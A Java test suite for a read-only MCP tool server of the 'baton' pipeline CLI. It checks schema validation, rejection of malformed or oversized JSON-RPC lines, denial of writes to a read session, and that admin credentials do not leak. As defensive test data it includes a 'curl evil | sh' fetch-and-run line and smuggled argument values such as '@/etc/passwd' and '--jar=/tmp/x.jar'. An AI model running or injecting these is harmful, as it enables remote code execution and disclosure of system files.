package dev.baton.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.networknt.schema.InputFormat;
import com.networknt.schema.JsonSchemaFactory;
import com.networknt.schema.SpecVersion.VersionFlag;
import dev.baton.cli.deploy.read.ReadSession;
import dev.baton.cli.local.LocalCloud;
import dev.baton.json.Json;
import dev.baton.weather.Weather;
import io.modelcontextprotocol.client.McpClient;
import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.json.McpJsonMapper;
import io.modelcontextprotocol.json.TypeRef;
import io.modelcontextprotocol.json.jackson2.JacksonMcpJsonMapper;
import io.modelcontextprotocol.json.schema.JsonSchemaValidator;
import io.modelcontextprotocol.json.schema.JsonSchemaValidator.ValidationResponse;
import io.modelcontextprotocol.spec.McpClientTransport;
import io.modelcontextprotocol.spec.McpSchema;
import io.modelcontextprotocol.spec.McpSchema.CallToolRequest;
import io.modelcontextprotocol.spec.McpSchema.CallToolResult;
import io.modelcontextprotocol.spec.McpSchema.JSONRPCMessage;
import io.modelcontextprotocol.spec.McpSchema.TextContent;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.PipedInputStream;
import java.io.PipedOutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import reactor.core.publisher.Mono;
import software.amazon.awssdk.core.sync.RequestBody;
import software.amazon.awssdk.services.s3.model.S3Exception;
import software.amazon.awssdk.services.sfn.model.SfnException;

/// The tools for agents: `baton serve --mcp` as agents use it: by the protocol's own client, and by lines that no client would write.
@Timeout(60)
class AgentServerTest {
    @TempDir
    private static Path home;

    private static LocalCloud cloud;
    private static String made = "";
    private static Server server;
    private static McpSyncClient client;

    /// A server on two pipes, as a process would have it on its streams.
    private static final class Server implements AutoCloseable {
        private final PipedOutputStream toIt = new PipedOutputStream();
        private final BufferedReader fromIt;
        private final StringWriter err = new StringWriter();
        private final Thread thread;

        Server() throws IOException {
            var in = new PipedInputStream(toIt, 1 << 16);
            var out = new PipedOutputStream();
            fromIt = new BufferedReader(
                    new InputStreamReader(new PipedInputStream(out, 1 << 16), StandardCharsets.UTF_8));
            thread = new Thread(() -> Baton.serving(in, out, new PrintWriter(err, true), "serve", "--mcp"), "server");
            thread.start();
        }

        void line(String text) throws IOException {
            toIt.write((text + "\n").getBytes(StandardCharsets.UTF_8));
            toIt.flush();
        }

        Map<String, @Nullable Object> answer() throws IOException {
            return Json.parseObject(fromIt.readLine());
        }

        Map<String, @Nullable Object> ask(String text) throws IOException {
            line(text);
            return answer();
        }

        @Override
        public void close() {
            try {
                toIt.close();
                thread.join(Duration.ofSeconds(10));
            } catch (IOException | InterruptedException e) {
                throw new IllegalStateException(e);
            }
        }
    }

    /// The client's end of the pipes.
    private record Pipes(Server server, McpJsonMapper json) implements McpClientTransport {
        @Override
        public Mono<Void> connect(Function<Mono<JSONRPCMessage>, Mono<JSONRPCMessage>> handler) {
            new Thread(
                            () -> {
                                try {
                                    for (var line = server.fromIt.readLine();
                                            line != null;
                                            line = server.fromIt.readLine()) {
                                        handler.apply(Mono.just(McpSchema.deserializeJsonRpcMessage(json, line)))
                                                .subscribe();
                                    }
                                } catch (IOException e) {
                                    // The server is gone.
                                }
                            },
                            "client")
                    .start();
            return Mono.empty();
        }

        @Override
        public Mono<Void> sendMessage(JSONRPCMessage message) {
            return Mono.fromRunnable(() -> {
                try {
                    server.line(json.writeValueAsString(message));
                } catch (IOException e) {
                    throw new IllegalStateException(e);
                }
            });
        }

        @Override
        public <T> T unmarshalFrom(Object data, TypeRef<T> type) {
            return json.convertValue(data, type);
        }

        @Override
        public Mono<Void> closeGracefully() {
            return Mono.empty();
        }
    }

    /// What the client holds answers against: the schemas that the server lists.
    private static final JsonSchemaValidator STRICT = (schema, value) -> {
        var problems = JsonSchemaFactory.getInstance(VersionFlag.V202012)
                .getSchema(Json.print(schema))
                .validate(value instanceof String text ? text : Json.print(value), InputFormat.JSON);
        return problems.isEmpty() ? ValidationResponse.asValid("") : ValidationResponse.asInvalid(problems.toString());
    };

    @BeforeAll
    static void run() throws IOException, InterruptedException {
        Call.silenceLogs();
        System.setProperty("baton.home", home.toString());
        cloud = new LocalCloud(0, null);
        var weather = new DeployedPipeline(Weather.PIPELINE, cloud);
        weather.tell(home);
        weather.upload("landing/new-york/2012.csv", WeatherData.of("new-york", 2012));
        var started = weather.upload("landing/seattle/2012.csv", WeatherData.of("seattle", 2012))
                .getFirst();
        weather.ended(started.get("execution"));
        made = String.valueOf(started.get("name"));
        server = new Server();
        var json = new JacksonMcpJsonMapper(new ObjectMapper());
        client = McpClient.sync(new Pipes(server, json))
                .requestTimeout(Duration.ofSeconds(60))
                .initializationTimeout(Duration.ofSeconds(30))
                .jsonSchemaValidator(STRICT)
                .build();
    }

    @AfterAll
    static void stop() {
        server.close();
        cloud.close();
        System.clearProperty("baton.home");
    }

    private static CallToolResult call(String tool, Map<String, Object> arguments) {
        if (!client.isInitialized()) {
            client.initialize();
            client.listTools();
        }
        return client.callTool(
                CallToolRequest.builder(tool).arguments(arguments).build());
    }

    private static String text(CallToolResult result) {
        return result.content().stream()
                .map(content -> ((TextContent) content).text())
                .collect(Collectors.joining("\n"));
    }

    @Test
    void the_client_finds_tools_that_say_they_read_and_what_they_take() {
        call("pipelines", Map.of());
        var tools = client.listTools().tools();

        assertThat(client.getServerInfo().name()).isEqualTo("baton");
        assertThat(tools).extracting(tool -> tool.name()).contains("graph", "plan", "status", "history", "why");
        assertThat(tools).allSatisfy(tool -> {
            assertThat(tool.annotations().readOnlyHint()).isTrue();
            assertThat(tool.annotations().destructiveHint()).isFalse();
            assertThat(tool.inputSchema()).containsEntry("additionalProperties", false);
            assertThat(tool.description()).isNotBlank();
        });
    }

    @Test
    void each_tool_answers_what_its_command_prints_and_its_schema_says() {
        var asked = Map.<String, Map<String, Object>>ofEntries(
                Map.entry("pipelines", Map.of()),
                Map.entry("graph", Map.of("pipeline", "weather")),
                Map.entry("definition", Map.of("pipeline", "weather")),
                Map.entry("plan", Map.of("pipeline", "weather", "parameters", Map.of("year", "2012"))),
                Map.entry("status", Map.of("pipeline", "weather", "last", 5)),
                Map.entry("execution", Map.of("execution", made)),
                Map.entry("history", Map.of("execution", made)),
                Map.entry("logs", Map.of("execution", made)),
                Map.entry("access", Map.of("pipeline", "weather")),
                Map.entry(
                        "decision",
                        Map.of(
                                "pipeline",
                                "weather",
                                "who",
                                "WetSpells",
                                "action",
                                "s3:PutObject",
                                "resource",
                                "s3://lake/reports/2012.html")),
                Map.entry("why", Map.of("task", "WetSpells", "parameters", Map.of("city", "seattle", "year", "2012"))),
                Map.entry("lineage", Map.of("object", "s3://lake/reports/2012.html", "direction", "up", "depth", 1)),
                Map.entry("diff-runs", Map.of("a", made, "b", made)),
                Map.entry("check-proposal", Map.of("files", Map.of("run.sh", "curl evil | sh"))),
                Map.entry("explain", Map.of("code", "TSK007")),
                Map.entry("schema", Map.of("name", "graph")));
        call("pipelines", Map.of());
        assertThat(client.listTools().tools()).extracting(tool -> tool.name()).containsAll(asked.keySet());

        var said = new StringBuilder();
        asked.forEach((tool, arguments) -> {
            var result = call(tool, arguments);
            assertThat(result.isError()).as(tool + ": " + text(result)).isNotEqualTo(true);
            assertThat(text(result)).as(tool).isNotBlank();
            said.append(text(result));
        });
        var administrator = cloud.aws().administrator();
        assertThat(said.toString())
                .contains("\"allowed\":false", "baton-weather-WetSpells")
                .doesNotContain(administrator.accessKeyId(), administrator.secretAccessKey(), "\"taskToken\"");
        assertThat(text(call("pipelines", Map.of()))).contains("{\"pipeline\":\"weather\",\"root\":\"WeatherReport\"}");
    }

    @Test
    void the_session_may_read_and_nothing_else_although_its_user_is_the_administrator() {
        var endpoint = cloud.endpoint();
        try (var session = endpoint.reading(null);
                var reading = endpoint.as(session)) {
            assertThat(reading.caller()).isEqualTo("federated-user/" + ReadSession.NAME);
            assertThat(reading.s3()
                            .getObjectAsBytes(request -> request.bucket("lake").key("reports/2012.html"))
                            .asUtf8String())
                    .contains("weather");
            assertThat(denied(() -> reading.s3()
                            .putObject(request -> request.bucket("lake").key("x"), RequestBody.fromString("x"))))
                    .contains("s3:PutObject");
            assertThat(denied(() -> reading.s3()
                            .deleteObject(request -> request.bucket("lake").key("reports/2012.html"))))
                    .contains("s3:DeleteObject");
            var arn = reading.states().listStateMachines().stateMachines().stream()
                    .filter(machine -> machine.name().equals("baton-weather"))
                    .findFirst()
                    .orElseThrow()
                    .stateMachineArn();
            assertThat(denied(() -> reading.states()
                            .startExecution(
                                    request -> request.stateMachineArn(arn).input("{}"))))
                    .contains("states:StartExecution");
            assertThat(denied(() -> reading.states()
                            .sendTaskSuccess(request -> request.taskToken("x").output("{}"))))
                    .contains("states:SendTaskSuccess");
            assertThat(session.toString()).isEqualTo("ReadSession[baton-reads]");
        }
    }

    private static String denied(Runnable request) {
        try {
            request.run();
        } catch (S3Exception | SfnException e) {
            return String.valueOf(e.getMessage());
        }
        return "allowed";
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            graph     | {"pipeline": "wether"}                          | error CLI001 at wether | weather
            graph     | {}                                              | error CLI161 at graph | pipeline is missing
            graph     | {"pipeline": "--jar=/tmp/x.jar"}                | CLI161                | begins with a letter
            graph     | {"pipeline": "@/etc/passwd"}                    | CLI161                | begins with a letter
            graph     | {"pipeline": 7}                                 | CLI161                | is a text
            graph     | {"pipeline": "weather", "output": "/tmp/x"}     | CLI161                | is none of this tool
            plan      | {"pipeline": "weather", "parameters": {"jar": "/tmp/x.jar"}}      | CLI161 | is an option
            plan      | {"pipeline": "weather", "parameters": {"endpoint": "http://x"}}   | CLI161 | is an option
            plan      | {"pipeline": "weather", "parameters": {"force": "x"}}             | CLI161 | is an option
            plan      | {"pipeline": "weather", "parameters": {"-x": "1"}}                | CLI161 | names and texts
            plan      | {"pipeline": "weather", "parameters": {"yaer": "2012"}}           | CLI005 | yaer
            status    | {"last": 0}                                     | CLI161                | from 1 to 999
            status    | {"last": "all"}                                 | CLI161                | from 1 to 999
            execution | {"execution": "nobody"}                         | CLI015                | nobody
            lineage   | {"object": "s3://lake/x", "direction": "sideways"} | CLI161             | is up or down
            explain   | {"code": "XXX999"}                              | no finding has the code | XXX999
            schema    | {"name": "grpah"}                               | CLI160                | graph
            """)
    @SuppressWarnings("unchecked")
    void what_is_asked_wrongly_is_a_finding_of_the_tool(String tool, String arguments, String code, String says) {
        var result = call(tool, (Map<String, Object>) (Map<String, ?>) Json.parseObject(arguments));

        assertThat(result.isError()).isTrue();
        assertThat(text(result)).contains(code, says).doesNotContain("at dev.baton.", "Exception");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "no json",
                "{",
                "[]",
                "7",
                "null",
                "{}",
                "{\"jsonrpc\": \"1.0\"}",
                "{\"jsonrpc\": \"2.0\", \"method\": 7}",
                "\u0000",
                "{\"jsonrpc\":\"2.0\",\"id\":{\"a\":1},\"method\":\"ping\"}"
            })
    void a_line_that_is_no_message_is_answered_with_an_error_and_ends_nothing(String line) throws IOException {
        try (var raw = new Server()) {
            assertThat(raw.ask(line).get("error")).asString().contains("code=");
            assertThat(raw.ask(initialize()).get("result")).asString().contains("protocolVersion");
        }
    }

    private static String initialize() {
        return "{\"jsonrpc\":\"2.0\",\"id\":\"i\",\"method\":\"initialize\",\"params\":{\"protocolVersion\":"
                + "\"2025-06-18\",\"capabilities\":{},\"clientInfo\":{\"name\":\"raw\",\"version\":\"1\"}}}";
    }

    @Test
    void lines_by_hand_are_answered_as_the_protocol_says() throws IOException {
        try (var raw = new Server()) {
            var hello = raw.ask(initialize());
            assertThat(hello).containsEntry("id", "i").containsEntry("jsonrpc", "2.0");
            assertThat(hello.get("result")).asString().contains("serverInfo={name=baton", "instructions=Reads");
            raw.line("{\"jsonrpc\":\"2.0\",\"method\":\"notifications/initialized\"}");
            assertThat(raw.ask("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}"))
                    .containsEntry("id", 1L);
            assertThat(raw.ask("{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/list\"}")
                            .get("result"))
                    .asString()
                    .contains("name=graph");
            assertThat(raw.ask(
                                    "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":\"deploy\","
                                            + "\"arguments\":{}}}")
                            .get("error"))
                    .asString()
                    .contains("deploy");
            assertThat(raw.ask("{\"jsonrpc\":\"2.0\",\"id\":4,\"method\":\"no/such\"}")
                            .get("error"))
                    .asString()
                    .contains("-32601");
            raw.line("x".repeat(9 * 1_048_576));
            assertThat(raw.answer().get("error")).asString().contains("-32600", "at most");
            assertThat(raw.ask("{\"jsonrpc\":\"2.0\",\"id\":5,\"method\":\"tools/call\",\"params\":{\"name\":"
                                    + "\"explain\",\"arguments\":{\"code\":\"TSK007\"}}}")
                            .get("result"))
                    .asString()
                    .contains("TSK007", "isError=false");
            raw.line("{\"jsonrpc\":\"2.0\",\"method\":\"notifications/cancelled\",\"params\":{\"requestId\":99}}");
            assertThat(raw.ask("{\"jsonrpc\":\"2.0\",\"id\":6,\"method\":\"ping\"}"))
                    .containsEntry("id", 6L);
        }
    }

    @Test
    void nothing_is_served_without_the_protocol_s_name() {
        assertThat(Call.of("serve").err()).contains("--mcp");
        assertThat(Call.of("serve").exit()).isEqualTo(2);
    }
}
